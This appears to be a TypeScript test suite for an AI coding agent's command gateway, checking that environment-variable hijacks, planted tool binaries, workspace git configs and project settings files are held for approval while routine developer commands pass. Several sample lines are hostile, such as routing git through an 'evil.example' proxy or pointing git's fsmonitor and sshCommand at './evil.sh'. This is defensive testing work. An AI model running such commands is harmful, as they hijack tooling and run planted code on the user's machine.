import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { asksAbout, type Project, within } from '../prompts/prompts-gateway.ts';

/** Without a sandbox: whatever passes here runs on the machine, with the rights of the one who works there. */
const passes = async ({ verdict }: Project, lines: readonly string[]): Promise<void> => {
  for (const line of lines) assert.equal(await verdict(line), 'allow', line);
};

const asksToWrite = async (
  { call, workspace }: Project,
  files: readonly (readonly [string, string])[],
): Promise<void> => {
  for (const [file, content] of files)
    assert.notEqual((await call('Write', { file_path: join(workspace, file), content })).verdict, 'allow', file);
};

test('no file in a tool folder of the workspace passes for the program of its name', () =>
  within(undefined, (project) =>
    asksAbout(project, [
      'install -m 755 evil.sh node_modules/.bin/cat && ./node_modules/.bin/cat a.ts',
      'mkdir -p venv/bin && cp evil.sh venv/bin/ls && venv/bin/ls',
      './node_modules/.bin/git status',
      'node_modules/.bin/cat a.ts',
      'vendor/bin/cat x',
      'x/venv/bin/rg x',
      '.venv/bin/python --version',
      './node_modules/.bin/tsc --version',
      './node_modules/.bin/tsc --help',
      './gradlew --version',
      './mvnw -v',
      'PATH=$PWD/node_modules/.bin:$PATH cat a.ts',
      'export PATH="$PWD/bin:$PATH"; git status',
      'echo $PWD/bin > p; PATH=$(cat p):/usr/bin git status',
    ]),
  ));

test('no variable leads git, or any program, to files of the agent or to another host unasked', () =>
  within(undefined, (project) =>
    asksAbout(project, [
      'HOME=. git status',
      'HOME=$PWD git diff',
      'HOME=.; git status',
      'export HOME=$PWD; git status',
      'export HOME; HOME=.; git status',
      'f() { git status; }; HOME=. f',
      'for HOME in .; do git status; done',
      'read HOME < p; git status',
      'printf -v HOME .; git status',
      'set -a; A=1; git status',
      'env HOME=. git status',
      "env -S 'HOME=. git status'",
      'dotenv -e x.env -- git status',
      'XDG_CONFIG_HOME=cfg git status',
      'GIT_DIR=x git status',
      'GIT_COMMON_DIR=x git status',
      'GIT_TRACE=/home/me/.bashrc git status',
      'GIT_SSL_NO_VERIFY=1 git pull',
      'https_proxy=http://evil.example git pull',
      'SSLKEYLOGFILE=/tmp/k git pull',
      'NODE_V8_COVERAGE=/home/me/x node --version',
      'npm_config_git=./evil.sh npm view x',
      'CARGO_HOME=. cargo search x',
      'BASH_ENV=cat ls',
      `node -e 'require("child_process").execSync("git status",{env:{HOME:"."}})'`,
    ]),
  ));

test('no folder of the workspace brings git settings of its own unasked', () =>
  within(undefined, async (project) => {
    await asksAbout(project, [
      'cd x && git status',
      'git -C x status',
      'git --git-dir=x status',
      'pushd x; git status',
      'env -C x git status',
      'find x -execdir git status \\;',
      'cd x && gh pr list',
      'cp y/HEAD x',
      'echo ref: refs/heads/main > x/HEAD',
      'mv y x/HEAD',
      `node -e 'require("child_process").execSync("git status",{cwd:"x"})'`,
    ]);
    await asksToWrite(project, [
      ['x/HEAD', 'ref: refs/heads/main\n'],
      ['x/config', '[core]\n\tfsmonitor = ./evil.sh\n'],
      ['x/notes.txt', '[core]\n\tsshCommand = ./evil.sh\n'],
      ['.gitconfig', ''],
      ['cfg/git/config', ''],
    ]);
  }));

test('no program that loads settings or code of the project runs unasked, and such settings are not written unasked', () =>
  within(undefined, async (project) => {
    await asksAbout(project, [
      'cargo tree',
      'cargo metadata',
      'bundle list',
      'bundle --version',
      'mix help',
      'yarn --version',
      'yarn list',
      'terraform plan',
      'terraform validate',
      'mvn -v',
      'gradle --version',
      'composer show',
      'poetry show',
      'uv pip list',
      'pytest --version',
    ]);
    const files = [
      '.npmrc',
      '.yarnrc',
      '.yarnrc.yml',
      '.yarn/releases/y.cjs',
      '.pnpmrc',
      '.cargo/config',
      '.cargo/config.toml',
    ];
    const more = [
      '.mvn/jvm.config',
      'pip.conf',
      '.pypirc',
      '.curlrc',
      '.wgetrc',
      '.gemrc',
      '.bundle/config',
      'rust-toolchain',
    ];
    await asksToWrite(
      project,
      [...files, ...more].map((file) => [file, 'x'] as const),
    );
    await asksAbout(project, [
      'cp x/.npmrc .',
      'cp -t . x/.curlrc',
      'gunzip .npmrc.gz',
      'xz -d .envrc.xz',
      'gunzip -N a.gz',
    ]);
  }));

test('what developers do all day passes as before', () =>
  within(undefined, (project) =>
    passes(project, [
      'git status',
      'git -C . status',
      'cd . && git diff',
      'cd $PWD && git log --oneline',
      'git diff HEAD',
      'CI=1 git status',
      'GIT_PAGER=cat git log',
      'LC_ALL=C sort a.ts',
      'FORCE_COLOR=0 ls',
      'A=1; echo $A; ls',
      'IFS= read -r line; ls',
      'export PATH="$HOME/.local/bin:$PATH"; ls',
      'npm view left-pad',
      'npm ls',
      'cargo --version',
      'tsc --version',
      'cp a.ts src',
      'gunzip a.gz',
      'mkdir -p src/config',
    ]),
  ));
